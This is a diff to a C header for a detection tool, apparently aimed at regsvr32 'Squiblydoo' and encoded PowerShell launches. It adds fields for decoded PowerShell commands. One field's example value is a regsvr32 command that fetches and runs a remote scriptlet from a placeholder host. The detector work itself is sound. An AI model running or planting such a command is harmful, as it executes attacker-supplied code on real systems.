@@ -161,7 +161,13 @@
 	  "control_rundll") \
 	X(RD_ARGUMENT, "squibly.rundll32.argument", \
 	  "What rundll32 hands to that function, folded", \
-	  "desk.cpl")
+	  "desk.cpl") \
+	X(ENCODED_COMMAND, "squibly.encoded.command", \
+	  "What PowerShell is given in Base64 (-EncodedCommand), by a command line or a stored command, decoded and folded", \
+	  "regsvr32 /s /i:http://h/a.sct scrobj.dll") \
+	X(ENCODED_CARRIES, "squibly.encoded.carries", \
+	  "What that carries, as squibly.launch.carries says it", \
+	  "regsvr32_url")
 
 /* Those of an event that holds a command for later alone. */
 #define SQ_DERIVED_STORED(X) \
